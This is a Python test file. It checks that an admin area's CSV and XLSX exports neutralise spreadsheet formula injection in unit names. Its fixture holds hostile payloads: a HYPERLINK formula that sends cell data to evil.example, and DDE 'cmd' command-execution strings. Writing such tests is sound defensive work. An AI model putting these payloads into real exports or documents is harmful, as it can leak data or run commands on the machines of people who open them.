"""A unit whose name a spreadsheet would run as a formula reaches the CSV and XLSX exports as inert text.

Downloaded over real HTTP from the admin area; the CSV read with the csv module and the XLSX with openpyxl."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from cascade.core.db import session_scope
from cascade.core.settings import Settings
from models import Unit
from tests.cascade_helpers import plant_tree
from tests.test_status_paging import admin_web  # noqa: F401  (fixture)

pytestmark = pytest.mark.usefixtures("sample_org")
HOSTILE = {
    "LDLD_TD": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "LDLD_PT": "+1+cmd|' /C calc'!A0",
    "LDLD_SH": "@SUM(1+1)*cmd|' /C calc'!A0",
    "LDLD_MT": "-2+3",
}


@pytest.fixture
def directive_id(settings: Settings) -> int:
    with session_scope() as session:
        for unit in session.exec(select(Unit).where(Unit.code.in_(HOSTILE))).all():  # type: ignore[attr-defined]
            unit.name = HOSTILE[unit.code]
            session.add(unit)
        session.flush()
        directive = plant_tree(session, "LDLD_LC", [{"unit": code, "status": "arrived"} for code in HOSTILE])
        assert directive.id is not None
        return directive.id


def test_formula_names_are_text_in_csv_and_xlsx(admin_web, directive_id: int) -> None:  # noqa: F811
    csv_text = admin_web.get(f"/admin/directives/{directive_id}/export.csv").content.decode("utf-8-sig")
    cells = {cell for line in csv.reader(io.StringIO(csv_text)) for cell in line}
    for name in HOSTILE.values():
        assert "'" + name in cells and name not in cells
    workbook = load_workbook(io.BytesIO(admin_web.get(f"/admin/directives/{directive_id}/export.xlsx").content))
    values = [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.value is not None]
    named = [c for c in values if isinstance(c.value, str) and c.value.lstrip("'") in HOSTILE.values()]
    assert len(named) >= len(HOSTILE)
    assert all(c.data_type == "s" and c.value.startswith("'") for c in named)
